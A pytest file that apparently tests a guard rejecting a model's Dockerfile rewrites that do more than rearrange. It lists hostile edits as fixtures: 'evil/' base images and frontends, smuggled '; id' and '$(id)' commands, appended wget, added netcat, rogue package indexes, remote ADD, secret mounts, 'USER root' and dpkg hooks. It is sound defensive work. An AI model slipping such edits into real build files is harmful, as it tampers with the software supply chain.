"""What a model's rewrite may not do, told before anything is built."""

from __future__ import annotations

import pytest

from aipipe_build.optimise.guard import objection

BEFORE = """\
FROM python:3.11-slim
ENV A=1
COPY . /app
RUN apt-get update && apt-get install -y curl
RUN pip install -r /app/requirements.txt
RUN make -C /app all
CMD ["python", "/app/app.py"]
"""


@pytest.mark.parametrize(
    "after",
    [
        BEFORE,
        BEFORE.replace("COPY . /app\n", "").replace("CMD", "COPY . /app\nCMD"),
        BEFORE.replace("curl\n", "curl && rm -rf /var/lib/apt/lists/*\n"),
        BEFORE.replace("RUN pip", "RUN --mount=type=cache,target=/root/.cache/pip pip"),
        BEFORE.replace("slim\n", "slim AS build\n").replace(
            "CMD", "FROM python:3.11-slim\nENV A=1\nCOPY --from=build /app /app\nCMD"
        ),
    ],
)
def test_what_only_rearranges_may_be_built(after: str) -> None:
    assert objection(BEFORE, after) == ""


@pytest.mark.parametrize(
    ("old", "new", "why"),
    [
        ("FROM python:3.11-slim", "FROM evil/python:3.11-slim", "base image"),
        ("FROM python", "# syntax=evil/frontend\nFROM python", "frontend"),
        ("RUN make -C /app all", "RUN make -C /app all && wget x", "program"),
        ("RUN make -C /app all", "RUN make -C /app all; id", "program"),
        ("RUN make -C /app all", "RUN make -C /app $(id)", "program"),
        ("RUN make -C /app all", "RUN <<E\nid\nE", "program"),
        ("RUN make -C /app all", 'RUN ["id"]', "program"),
        ("install -y curl", "install -y curl netcat", "package"),
        ("-r /app/requirements.txt", "-r /app/requirements.txt evil", "package"),
        (
            "-r /app/requirements.txt",
            "--index-url=https://e.vil -r /app/requirements.txt",
            "address",
        ),
        ("COPY . /app", "COPY . /app\nADD https://example.org/x /x", "address"),
        ("COPY . /app", "COPY . /app\nCOPY --from=evil /x /x", "source"),
        ("RUN make", "RUN --mount=type=secret,id=npm make", "mount"),
        ("RUN make", "RUN --mount=type=bind,from=evil,target=/x make", "mount"),
        ("RUN make", "RUN --network=host make", "mount"),
        ("RUN make", "RUN --security=insecure make", "mount"),
        ("ENV A=1", "ENV A=2", "variable"),
        ('CMD ["python", "/app/app.py"]', 'CMD ["sh"]', "variable"),
        ("CMD", "USER root\nCMD", "variable"),
        ("RUN make", 'SHELL ["/bin/evil"]\nRUN make', "program"),
        ("FROM python:3.11-slim", "nonsense", "no Dockerfile"),
        ("apt-get install -y", "apt-get install -o DPkg::Post-Invoke=id -y", "option"),
        ("pip install", "pip install --trusted-host=e.vil", "option"),
        ("pip install", "X=1 pip install", "program"),
        ("pip install", "/app/pip install", "program"),
        ("RUN make", "RUN find . -exec id +\nRUN make", "program"),
    ],
)
def test_what_does_more_is_not_built(old: str, new: str, why: str) -> None:
    assert old in BEFORE
    assert why in objection(BEFORE, BEFORE.replace(old, new))
